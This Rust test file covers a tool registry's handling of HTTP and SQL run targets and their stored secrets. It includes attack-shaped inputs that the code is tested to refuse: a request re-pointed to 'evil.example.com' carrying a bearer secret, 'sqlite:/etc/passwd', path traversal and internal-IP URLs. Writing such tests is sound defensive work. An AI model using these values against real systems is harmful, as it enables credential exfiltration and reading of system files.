//! Registering, changing and removing tools, and what becomes of their secrets.

use iron_policy::{RiskLevel, ToolKind};
use iron_primitives::{ErrorKind, Secret};
use iron_rules::{Error, ToolChange, ToolFilter};
use iron_runtime::authority::{Method, Run};
use iron_store::{Db, Page, Sort, sql};
use serde_json::{Value, json};

use crate::kit::{World, object};

const PAGE: Page = Page {
    page: 1,
    per_page: 100,
};

fn call(url: &str, headers: &[(&str, &str)]) -> Run {
    let owned = |(name, value): &(&str, &str)| ((*name).to_owned(), (*value).to_owned());
    Run::Http {
        method: Method::Post,
        url: url.to_owned(),
        headers: headers.iter().map(owned).collect(),
        timeout_seconds: None,
    }
}

fn to_mail() -> Run {
    call(
        "https://mail.example.com/v1/send",
        &[("Authorization", "Bearer {secret}")],
    )
}

fn fields(value: Value) -> ToolChange {
    ToolChange {
        fields: object(value),
        ..ToolChange::default()
    }
}

iron_store::both_engines! {
    async fn what_is_run_as_a_statement_is_declared_as_one(db: Db) {
        let world = World::new(db).await;
        for name in ["sql", "query", "statement"] {
            for (kind, accepted) in [("text", false), ("json", false), ("sql", true)] {
                let declared = json!({
                    "name": format!("{name}_{kind}"), "kind": "database", "access": "read",
                    "parameters": [{"name": name, "kind": kind}],
                });
                let made = world.register(declared).await;
                let Ok(made) = made else { continue };
                let change = ToolChange {
                    run: Some(Some(Run::Sql { max_rows: None, timeout_seconds: None })),
                    secret: Some(Secret::new("sqlite:crm.db".to_owned())),
                    ..ToolChange::default()
                };
                let changed = world.change_tool(made.id, change).await;
                assert_eq!(changed.is_ok(), accepted, "{name} {kind}: {changed:?}");
            }
        }
    }

    async fn a_tool_is_kept_as_it_was_declared_and_changed_field_by_field(db: Db) {
        let world = World::new(db).await;
        let declared = json!({
            "name": "send_email", "kind": "email", "risk_level": "high",
            "schema": {"type": "object", "required": ["to"]},
            "parameters": [{"name": "to", "kind": "email", "recipients": ["*@example.com"]}],
            "data_class": ["personal"], "attributes": {"owner_team": "office"},
        });
        let made = world.register(declared).await.unwrap();
        assert_eq!((made.tool.kind, made.tool.risk_level), (ToolKind::Email, RiskLevel::High));
        let admin = world.admin();
        assert_eq!(world.tools.get(&admin, made.id).await.unwrap(), made);
        let change = json!({"risk_level": "low", "schema": null});
        let after = world.change_tool(made.id, fields(change)).await.unwrap();
        assert_eq!((after.tool.risk_level, &after.tool.schema), (RiskLevel::Low, &None));
        assert_eq!(after.tool.parameters, made.tool.parameters);
        assert!(after.updated_at > made.updated_at);
        assert_eq!(world.tools.get(&admin, made.id).await.unwrap(), after);
    }

    async fn tools_are_listed_by_what_they_are(db: Db) {
        let world = World::new(db).await;
        for (name, kind, risk) in [
            ("read_file", "file", "low"), ("send_email", "email", "high"), ("pay", "payment", "high"),
        ] {
            let fields = json!({"name": name, "kind": kind, "risk_level": risk});
            world.register(fields).await.unwrap();
        }
        let named = async |filter: ToolFilter| -> Vec<String> {
            let sort = Sort::ascending("name");
            let found = world.tools.list(&world.admin(), &filter, sort, PAGE).await.unwrap();
            found.items.into_iter().map(|tool| tool.tool.name).collect()
        };
        let all = ToolFilter::default();
        assert_eq!(named(all.clone()).await, ["pay", "read_file", "send_email"]);
        let grave = ToolFilter { risk_levels: vec![RiskLevel::High], ..all.clone() };
        assert_eq!(named(grave).await, ["pay", "send_email"]);
        let kinds = ToolFilter { kinds: vec![ToolKind::File], ..all.clone() };
        assert_eq!(named(kinds).await, ["read_file"]);
        assert!(named(ToolFilter { enabled: Some(false), ..all }).await.is_empty());
    }

    async fn what_does_not_do_is_named_by_its_path(db: Db) {
        let world = World::new(db).await;
        for (declared, path) in [
            (json!({"name": "two words"}), "name"),
            (json!({"name": "a*b"}), "name"),
            (json!({"name": "a", "schema": [1]}), "schema"),
            (json!({"name": "a", "data_class": ["PHI"]}), "data_class"),
            (json!({"name": "a", "kind": "browser"}), "tool"),
            (json!({"name": "a", "parameters": [{"name": "", "kind": "path"}]}), "parameters[0].name"),
            (
                json!({"name": "a", "parameters": [{"name": "u", "kind": "url", "roots": ["/"]}]}),
                "parameters[0].roots",
            ),
        ] {
            let refused = world.register(declared.clone()).await.unwrap_err();
            assert_eq!((refused.kind(), refused.field()), (ErrorKind::Validation, Some(path)), "{declared}");
        }
        world.register(json!({"name": "github/*"})).await.unwrap();
        let twice = world.register(json!({"name": "github/*"})).await.unwrap_err();
        assert!(matches!(twice, Error::NameTaken { what: "tool" }), "{twice:?}");
    }

    async fn a_request_goes_where_its_declaration_says_and_nowhere_else(db: Db) {
        let world = World::new(db).await;
        let declared = json!({"name": "a"});
        for (run, path) in [
            (call("http://mail.example.com", &[]), "run.url"),
            (call("https://{host}/v1", &[]), "run.url"),
            (call("https://10.0.0.1/v1", &[]), "run.url"),
            (call("https://user:pass@example.com/", &[]), "run.url"),
            (call("https://example.com/{secret}", &[]), "run.url"),
            (call("https://example.com/{id", &[]), "run.url"),
            (call("https://example.com", &[("Authorization", "Bearer abc")]), "run.headers.Authorization"),
            (call("https://example.com", &[("Host", "other.example")]), "run.headers.Host"),
            (call("https://example.com", &[("a b", "c")]), "run.headers"),
            (to_mail(), "secret"),
            (Run::Sql { max_rows: None, timeout_seconds: None }, "kind"),
        ] {
            let refused = world.register_to_run(declared.clone(), Some(run.clone()), None).await;
            assert_eq!(refused.unwrap_err().field(), Some(path), "{run:?}");
        }
        let nowhere = world.register_to_run(declared.clone(), None, Some("sk-1")).await;
        assert_eq!(nowhere.unwrap_err().field(), Some("secret"));
        let search = call("https://example.com/users/{id}?q={q}", &[("X-Version", "2")]);
        world.register_to_run(declared, Some(search), None).await.unwrap();
    }

    async fn a_tool_that_makes_statements_has_a_database_that_may_be_reached(db: Db) {
        let world = World::new(db).await;
        let statements = || Some(Run::Sql { max_rows: Some(10), timeout_seconds: None });
        let declared = json!({"name": "crm", "kind": "database"});
        for address in [
            None,
            Some("mysql://a@db.example.com/b"),
            Some("postgres://a:b@127.0.0.1/c"),
            Some("postgres://a:b@db.example.com/c?sslmode=disable"),
            Some("postgres://a:b@db.example.com/c?host=/tmp"),
            Some("postgres://a@/c?host=/tmp"),
            Some("sqlite:/etc/passwd"),
            Some("sqlite:../a.db"),
        ] {
            let refused = world.register_to_run(declared.clone(), statements(), address).await;
            assert_eq!(refused.unwrap_err().field(), Some("secret"), "{address:?}");
        }
        for (name, address) in [("a", "postgres://a:b@db.example.com/c"), ("b", "sqlite:crm/a.db")] {
            let declared = json!({"name": name, "kind": "database"});
            world.register_to_run(declared, statements(), Some(address)).await.unwrap();
        }
    }

    async fn a_secret_is_kept_sealed_and_goes_only_where_it_was_given_for(db: Db) {
        let world = World::new(db).await;
        let (tools, tenant) = (&world.tools, world.tenant);
        let made = world.register_to_run(json!({"name": "mail"}), Some(to_mail()), Some("sk-one"));
        let made = made.await.unwrap();
        assert_eq!(made.masked_secret.as_deref(), Some("sk-***"));
        let row = sql("SELECT secret FROM tools").fetch_optional(&world.db).await.unwrap().unwrap();
        let sealed: Vec<u8> = row.get("secret").unwrap();
        assert!(!String::from_utf8_lossy(&sealed).contains("sk-one"));
        let (secret, version) = tools.secret(tenant, made.id).await.unwrap();
        assert_eq!((secret.expose(), version), ("sk-one", 1));

        let elsewhere = call("https://evil.example.com/", &[("Authorization", "Bearer {secret}")]);
        let moved = |secret: Option<&str>| ToolChange {
            run: Some(Some(elsewhere.clone())),
            secret: secret.map(|text| Secret::new(text.to_owned())),
            ..ToolChange::default()
        };
        let refused = world.change_tool(made.id, moved(None)).await.unwrap_err();
        assert_eq!(refused.field(), Some("secret"));
        let mut slower = to_mail();
        if let Run::Http { timeout_seconds, .. } = &mut slower {
            *timeout_seconds = Some(60);
        }
        let slower = ToolChange { run: Some(Some(slower)), ..ToolChange::default() };
        let after = world.change_tool(made.id, slower).await.unwrap();
        assert_eq!((after.secret_version, after.masked_secret.is_some()), (1, true));
        let after = world.change_tool(made.id, moved(Some("sk-two"))).await.unwrap();
        let (secret, version) = tools.secret(tenant, after.id).await.unwrap();
        assert_eq!((secret.expose(), version, after.secret_version), ("sk-two", 2, 2));

        let by_callers = ToolChange { run: Some(None), ..ToolChange::default() };
        let after = world.change_tool(made.id, by_callers).await.unwrap();
        assert_eq!(after.masked_secret, None);
        assert!(matches!(tools.secret(tenant, made.id).await, Err(Error::NoTool { .. })));
    }

    async fn a_tool_belongs_to_whoever_registered_it_and_to_its_tenant(db: Db) {
        let world = World::new(db).await;
        let made = world.register(json!({"name": "a"})).await.unwrap();
        let mut tx = world.db.begin().await.unwrap();
        let developer = world.developer();
        let refused = world.tools.delete(&mut tx, &developer, made.id).await.unwrap_err();
        assert_eq!(refused.kind(), ErrorKind::InsufficientPermissions);
        let other = world.admin_of(world.time.environment.new_id());
        let refused = world.tools.delete(&mut tx, &other, made.id).await.unwrap_err();
        assert!(matches!(refused, Error::NoTool { .. }));
        assert!(world.tools.get(&other, made.id).await.is_err());
        assert!(world.tools.secret(other.tenant, made.id).await.is_err());
        world.tools.delete(&mut tx, &world.admin(), made.id).await.unwrap();
        tx.commit().await.unwrap();
        assert!(world.tools.get(&world.admin(), made.id).await.is_err());
    }
}
